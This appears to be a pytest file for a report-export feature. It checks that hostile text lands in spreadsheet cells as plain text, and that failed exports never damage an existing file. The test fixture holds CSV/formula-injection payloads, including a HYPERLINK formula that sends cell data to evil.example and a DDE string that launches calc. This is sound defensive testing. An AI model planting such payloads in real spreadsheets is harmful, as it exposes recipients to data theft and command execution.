"""Untrusted text survives as text, and a failed export never harms an existing file."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select

from lipplanner.core import models as m
from lipplanner.core.db import PlanDatabase
from lipplanner.core.errors import UserError
from lipplanner.core.periods import Period
from lipplanner.core.reports import saving
from lipplanner.core.reports.labels import Labels
from lipplanner.core.reports.progress_report import (
    ExportCancelled,
    ReportOptions,
    export_progress_report,
)
from lipplanner.core.reports.safe_text import MAX_CELL_CHARS, clean_text
from lipplanner.core.services.plan_view import load_plan_view

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
MULTILINE = "First line\nSecond line, « accentuée » — éè\r\nThird"
ARABIC_CHINESE = "مركز الوافدين الجدد 新移民中心"


@pytest.fixture
def hostile_plan(riverside: PlanDatabase) -> PlanDatabase:
    with riverside.transaction() as session:
        partner = session.scalar(select(m.Partner).order_by(m.Partner.id).limit(1))
        assert partner is not None
        partner.name_en = FORMULA
        partner.name_fr = FORMULA
        partner.languages = ARABIC_CHINESE
        second = session.scalar(select(m.Partner).order_by(m.Partner.id).offset(1).limit(1))
        assert second is not None
        second.name_en = "+cmd|' /C calc'!A0"
        second.notes = "bell\x07 and null\x00 bytes"
        practice = session.scalar(select(m.Practice).order_by(m.Practice.id).limit(1))
        assert practice is not None
        practice.summary = "Long. " * 6_667  # 40,002 characters
        practice.title_en = "@SUM(1+1)*cmd"
        update = session.scalar(
            select(m.ProgressUpdate).where(
                m.ProgressUpdate.fiscal_year == 2026, m.ProgressUpdate.quarter == 2
            )
        )
        assert update is not None
        update.successes = MULTILINE
        update.challenges = "-1 volunteer\x0b left \x1f"
        update.outputs = ARABIC_CHINESE
    return riverside


def column(ws: Worksheet, heading: str) -> tuple[Cell, ...]:
    """The cells below `heading` in the sheet's heading row (the first row that has it)."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.value == heading:
                at = cell.column
                return next(ws.iter_cols(min_col=at, max_col=at, min_row=cell.row + 1))
    raise AssertionError(f"no column headed {heading!r} on {ws.title}")


def test_hostile_text_is_stored_as_text(hostile_plan: PlanDatabase, tmp_path: Path) -> None:
    view = load_plan_view(hostile_plan, Period(2026, 2))
    path = export_progress_report(view, tmp_path / "hostile.xlsx", ReportOptions("en"))
    wb = openpyxl.load_workbook(path)
    labels = Labels("en")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert FORMULA in texts
    assert "+cmd|' /C calc'!A0" in texts
    assert "@SUM(1+1)*cmd" in texts
    assert MULTILINE.replace("\r\n", "\n") in texts
    assert ARABIC_CHINESE in texts
    assert "-1 volunteer left " in texts
    # The partner's name, in the column headed for it, is stored as text a spreadsheet
    # shows as typed: a string cell with the quote prefix, never a formula.
    names = column(wb["Partners"], labels("organisation"))
    partner_cell = next(c for c in names if c.value == FORMULA)
    assert partner_cell.data_type == "s" and partner_cell.quotePrefix
    long_text = max((t for t in texts), key=len)
    assert len(long_text) == MAX_CELL_CHARS and long_text.startswith("Long. Long.")
    assert long_text.endswith("…")
    # Wrapped narrative keeps its line breaks and its row grows to show them.
    progress = wb["Progress"]
    successes = column(progress, labels("successes"))
    row = next(c.row for c in successes if c.value == MULTILINE.replace("\r\n", "\n"))
    assert progress.row_dimensions[row].height and progress.row_dimensions[row].height > 30


def test_clean_text_limits() -> None:
    assert clean_text("a\x00b\x1fc\td\ne") == "abc\td\ne"
    emoji = "😀" * 20_000  # two UTF-16 units each
    cut = clean_text(emoji)
    assert len(cut.encode("utf-16-le")) // 2 <= MAX_CELL_CHARS and cut.endswith("…")
    assert clean_text("ok") == "ok"


@pytest.fixture
def existing(tmp_path: Path) -> Path:
    path = tmp_path / "report.xlsx"
    path.write_bytes(b"the report sent last quarter")
    return path


def _untouched(path: Path) -> bool:
    others = [p.name for p in path.parent.iterdir() if p.name != path.name]
    return path.read_bytes() == b"the report sent last quarter" and not [
        n for n in others if n.endswith((".part", ".lip-partial"))
    ]


def test_a_file_open_in_a_spreadsheet_is_left_alone(riverside_view, existing: Path) -> None:  # type: ignore[no-untyped-def]
    lock = existing.with_name(f".~lock.{existing.name}#")
    lock.write_text("someone,on a laptop")
    with pytest.raises(UserError, match="open in a spreadsheet application"):
        export_progress_report(riverside_view, existing)
    assert _untouched(existing)


def test_a_file_that_cannot_be_replaced_is_left_alone(
    riverside_view,
    existing: Path,
    monkeypatch: pytest.MonkeyPatch,  # type: ignore[no-untyped-def]
) -> None:
    def refuse(_source: str, _target: str) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(saving.os, "replace", refuse)
    with pytest.raises(UserError, match="could not be replaced: it may be open"):
        export_progress_report(riverside_view, existing)
    assert _untouched(existing)


def test_a_full_disk_leaves_no_half_workbook(
    riverside_view,
    existing: Path,
    monkeypatch: pytest.MonkeyPatch,  # type: ignore[no-untyped-def]
) -> None:
    def full(self: object, handle: Any) -> None:
        handle.write(b"PK half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", full)
    with pytest.raises(UserError, match="disk is full"):
        export_progress_report(riverside_view, existing)
    assert _untouched(existing)


def test_a_cancelled_export_writes_nothing(riverside_view, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    def cancel_at_indicators(done: int, _total: int, _sheet: str) -> None:
        if done == 4:
            raise ExportCancelled

    target = tmp_path / "cancelled.xlsx"
    with pytest.raises(ExportCancelled):
        export_progress_report(riverside_view, target, progress=cancel_at_indicators)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("missing/report.xlsx", "does not exist"),
        ("report.csv", "must end in .xlsx"),
        ("folder.xlsx", "is a folder"),
    ],
)
def test_bad_destinations(riverside_view, tmp_path: Path, name: str, message: str) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(UserError, match=message):
        export_progress_report(riverside_view, tmp_path / name)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_an_unwritable_folder(riverside_view, existing: Path) -> None:  # type: ignore[no-untyped-def]
    existing.parent.chmod(0o555)
    try:
        with pytest.raises(UserError, match="cannot write in the folder"):
            export_progress_report(riverside_view, existing)
    finally:
        existing.parent.chmod(0o755)
    assert _untouched(existing)
